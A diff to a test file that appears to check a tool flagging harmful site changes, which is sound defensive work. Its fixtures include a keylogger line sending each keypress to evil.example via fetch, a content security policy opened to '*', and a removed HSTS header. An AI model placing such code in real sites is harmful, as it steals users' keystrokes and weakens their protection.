@@ -93,7 +93,7 @@ test('a style is one change with its component, also one of hover', async () => 
 /** What a branch does: in a file, one text takes the place of another, or a file is new. */
 type Edits = [file: string, from: string, to: string][];
 
-const listener = "addEventListener('keydown', (event) => fetch(`https://evil.example/${event.key}`));";
+const listener = "addEventListener('keydown', (event) => fetch('https://evil.example/' + event.key));";
 const later: Edits = [
   [
     'content/page-later.mdx',
@@ -152,7 +152,7 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
   [
     'tags of the head of all pages',
     [
-      ['src/render/head.ts', "'og:title', content: title", "'og:title', content: `Win ${title}`"],
+      ['src/render/head.ts', "'og:title', content: title", "'og:title', content: 'Win ' + title"],
       ['src/render/Document.tsx', 'data-theme={firstTheme}', 'data-theme="system"'],
     ],
     /^1 change of what search engines see, \d other differences?\.$/,
@@ -161,7 +161,7 @@ const harms: [what: string, edits: Edits, first: RegExp, named: RegExp][] = [
   [
     'an opened policy, and headers that are gone',
     [
-      ['src/model/policy.ts', "'connect-src': `'self' ${server}`", "'connect-src': `* ${server}`"],
+      ['src/model/policy.ts', "'connect-src': `'self' ", "'connect-src': `* "],
       ['scripts/deploy/rules.ts', "'Strict-Transport-Security': 'max-age=31536000',", ''],
     ],
     /Security policy changed/,
